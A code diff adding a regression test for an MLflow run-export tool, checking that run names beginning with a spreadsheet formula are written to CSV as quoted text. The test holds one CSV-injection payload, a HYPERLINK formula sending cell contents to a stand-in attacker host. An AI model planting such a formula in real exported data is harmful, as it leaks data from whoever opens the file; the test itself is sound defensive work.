@@ -287,3 +287,21 @@ def test_the_collocation_figure_is_one_command(snapshots, empty_sqlite, radt_hom
     assert list(throughput) == ["alone", "same GPU", "MPS", "MIG"] and throughput["alone"] == pytest.approx(1.0)
     assert all(throughput[m] < 1 for m in ("same GPU", "MPS", "MIG")) and throughput["MPS"] > throughput["same GPU"], throughput
     assert smact["MPS"] > smact["same GPU"] > smact["alone"], f"a shared GPU is busier than with one run alone: {smact}"
+
+
+def test_a_run_name_a_spreadsheet_would_run_is_written_as_text(store, tmp_path):
+    """Anyone who can write to the shared store names runs: a run named =HYPERLINK("http://evil.example/?"&A1,"open") was
+    written as that into the table and data CSVs, which a colleague's spreadsheet runs as a formula (OWASP's CSV
+    injection). Such a cell begins with a ' now; other names, and numbers, are as they were."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    MlflowClient(store.uri).update_run(store.runs["A"], name=hostile)
+    _open_store(store.uri)  # the run list as the store holds it now
+    table, points = tmp_path / "table.csv", tmp_path / "points.csv"
+    for out, extra in ((table, ["--table"]), (points, ["--metric", "smact"])):
+        assert export_main(["--experiment", "radt-new", *extra, "--store", store.uri, "-o", str(out)]) == 0
+    rows = list(csv.DictReader(io.StringIO(table.read_text())))
+    names = {r["run"] for r in rows if r["kind"] == "run"}
+    assert "'" + hostile in names and hostile not in names and "run B" in names, names
+    cells = list(csv.DictReader(io.StringIO(points.read_text())))
+    assert {r["run_name"] for r in cells if r["run_id"] == store.runs["A"]} == {"'" + hostile}
+    assert all(float(r["value"]) == float(r["value"]) or r["value"] == "nan" for r in cells), "values are numbers as before"
